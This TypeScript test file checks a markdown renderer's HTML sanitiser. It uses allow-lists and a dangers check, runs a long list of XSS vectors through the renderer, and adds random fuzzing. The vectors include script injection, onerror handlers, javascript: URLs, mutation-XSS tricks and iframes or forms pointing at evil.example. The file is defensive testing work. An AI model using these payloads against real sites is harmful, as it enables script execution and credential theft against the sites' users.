import type { Root } from 'hast';
import rehypeParse from 'rehype-parse';
import rehypeStringify from 'rehype-stringify';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { describe, expect, test } from 'vitest';
import { render } from '../test-render.ts';
import { KEPT } from './html-elements.ts';

/** What browsers would make of it is read by a parser of its own, from the finished text. */
const parser = unified().use(rehypeParse, { fragment: true });
const writer = unified().use(rehypeStringify);

const OURS = ['h2', 'input', 'label', 'video-on-click'];
const ATTRIBUTES = new Set(
  `abbr alt ariaHidden ariaLabel checked cite className colSpan controls dataAddress dataVideo
  dateTime decoding default dir disabled headers height hidden href id kind label lang loading loop
  muted open poster preload rel reversed role rowSpan scope span src srcLang
  start tabIndex title type value width`.split(/\s+/),
);
const CLASSES =
  /^(?:align-(?:center|end|right)|bare-link|contains-task-list|embed|external|footnotes(?:-sep)?|footnote-(?:ref|backref)|heading-anchor|language-.+|recording|table-scroll|task-list-item|tok-[a-z]+)$/;
const VIDEOS =
  /^https:\/\/(?:www\.youtube-nocookie\.com\/embed|player\.vimeo\.com\/video)\/[\w-]+/;
const ADDRESS =
  /^(?:(?:https?|mailto|tel|sms|geo|ircs?|matrix|xmpp|webcal|ftp):|[^:]*$|[^:/?#]*[/?#])/;

/** Everything about a page's HTML that a post may not bring in. */
function dangersIn(html: string): string[] {
  const tree: Root = parser.parse(html);
  const dangers: string[] = [];
  visit(tree, (node) => {
    if (node.type === 'comment' || node.type === 'doctype') dangers.push(node.type);
    if (node.type !== 'element') return;
    const { tagName, properties } = node;
    if (!KEPT.has(tagName) && !OURS.includes(tagName)) dangers.push(`<${tagName}>`);
    for (const [name, value] of Object.entries(properties)) {
      if (!ATTRIBUTES.has(name)) dangers.push(`${tagName} ${name}`);
      if (['href', 'src', 'poster', 'cite'].includes(name)) {
        const address = String(value);
        const picture = tagName === 'img' && /^data:image\/(?!svg)[a-z]+;base64,/.test(address);
        if (!picture && !ADDRESS.test(address)) dangers.push(`${tagName} ${name}=${address}`);
      }
    }
    if (tagName === 'iframe') dangers.push('frame');
    if (tagName === 'video-on-click' && !VIDEOS.test(String(properties.dataVideo))) {
      dangers.push('video');
    }
    for (const name of properties.className ?? []) {
      if (!CLASSES.test(String(name))) dangers.push(`class ${name}`);
    }
  });
  // What a browser reads and writes again is the same: nothing waits to become something else.
  const again = writer.stringify(tree);
  if (writer.stringify(parser.parse(again)) !== again) dangers.push('unstable');
  return dangers;
}

const VECTORS = `
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/random>alert(1)</script>
<script>alert(1)
<<script>alert(1)//<</script>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img/src=x/onerror=alert(1)>
<img src=x onerror =alert(1)>
<img src="x"onerror=alert(1)>
<img src="javascript:alert(1)">
<img src=x srcset="javascript:alert(1) 1x, y 2x">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:text/html,<script>alert(1)</script>">
<img name=getElementById src=x>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#x01;javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#0000058;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="blob:https://a.org/1">x</a>
<a href="x" target=_blank onclick="alert(1)" style="color:red" class="fixed inset-0">x</a>
<a href="x" ping="https://evil.example" download>x</a>
[x](javascript:alert(1))
[x](<java
script:alert(1)>)
[x](&#x6A;avascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x][y]%0A%0A[y]: javascript:alert(1)
<javascript:alert(1)>
![x](javascript:alert(1))
![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)
![x" onerror="alert(1)](y)
[x](y 'z" onmouseover="alert(1)')
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><a href="javascript:alert(1)">x</a></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title><a title="</title><img src=x onerror=alert(1)>">
<textarea><a title="</textarea><img src=x onerror=alert(1)>">
<style><a title="</style><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<select><template><img src=x onerror=alert(1)>
<plaintext><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml <img src=x onerror=alert(1)> ?>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<iframe src="https://www.youtube.com.evil.example/embed/a"></iframe>
<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>
<iframe src="https://evil.example/https://www.youtube.com/embed/a"></iframe>
<iframe src="https://user@www.youtube.com:8080/embed/a" onload="alert(1)"></iframe>
<iframe src="https://www.youtube.com/embed/../../redirect"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import "https://evil.example/x.css"</style>
<div style="background:url(javascript:alert(1))">x</div>
<p style="position:fixed;inset:0">x</p>
<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1) src="javascript:alert(1)"></video>
<video poster="javascript:alert(1)" src="data:text/html,x"></video>
<audio src="data:audio/wav;base64,AAAA" autoplay onplay=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<html onclick=alert(1)>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>
<map><area href="javascript:alert(1)"></map>
<isindex action="javascript:alert(1)">
<x onclick=alert(1)>y</x>
<custom-element onclick=alert(1)>y</custom-element>
<b <script>alert(1)</script>>x</b>
<a title='"><script>alert(1)</script>'>x</a>
<div a'><script>alert(1)</script>'>
<p id="x" id="main" name="cookie">x</p>
<portal src="javascript:alert(1)"></portal>
<a href="#" rel="opener" role="button" tabindex="1" accesskey="x" contenteditable>x</a>
<h2 class="heading-anchor" id="main" onclick=alert(1)>x</h2>
<section data-footnotes class="fixed" onclick=alert(1)>x</section>
~~~js"><script>alert(1)</script>%0Ax%0A~~~
<pre><code class="language-js"><img src=x onerror=alert(1)></code></pre>
<table><tr><td><script>alert(1)</script><a href=javascript:alert(1)>x</table>
[^1]%0A%0A[^1]: <img src=x onerror=alert(1)>
[^"><img src=x onerror=alert(1)>]%0A%0A[^"><img src=x onerror=alert(1)>]: y
`
  .trim()
  .split('\n')
  .map((line) => line.replaceAll('%0A', '\n'));

describe('what could run is gone, whatever the browser makes of the rest', () => {
  test.each(VECTORS)('%s', async (vector) => {
    for (const markdown of [
      vector,
      `before ${vector} after`,
      `> - ${vector}`,
      `| a |\n|-|\n|${vector}|`,
    ]) {
      const { html, text } = await render(`${markdown}\n\nThe end.`);
      expect(dangersIn(html)).toEqual([]);
      if (!/<!--(?!.*-->)/s.test(markdown)) expect(text).toContain('The end.');
    }
  });
});

test('this table would notice', () => {
  expect(dangersIn('<img src=x onerror=alert(1)>')).toEqual(['img onError']);
  expect(dangersIn('<a href="javascript:alert(1)">x</a>')).toEqual([
    'a href=javascript:alert(1)',
  ]);
  expect(dangersIn('<p class="fixed">x</p>')).toEqual(['class fixed']);
  expect(dangersIn('<iframe></iframe>')).toEqual(['frame']);
  expect(dangersIn('<video-on-click data-video="https://evil.example">')).toEqual(['video']);
  expect(dangersIn('<script>x</script>')).toEqual(['<script>']);
});

test('random mixtures of dangerous pieces stay harmless', async () => {
  const pieces =
    `< > " ' / = \` script style svg math title textarea template table select a b img p
    href src onerror alert(1) javascript: data: <!-- --> <a <b> </b> </p> <script> </script> <svg> </svg>
    <style> </style> <table> <td> <iframe </iframe> <x> * _ [ ]( ) > - | &lt; &#x3c; <div </div>`.split(
      /\s+/,
    );
  let seed = 1;
  const pick = () => {
    seed = (seed * 48271) % 2147483647;
    const gap = ['', ' ', '\n', '\n\n'][seed % 4] ?? '';
    return (pieces[seed % pieces.length] ?? '') + gap;
  };
  for (let round = 0; round < 400; round++) {
    const markdown = Array.from({ length: 25 }, pick).join('');
    const { html } = await render(markdown);
    expect(dangersIn(html), markdown).toEqual([]);
  }
});
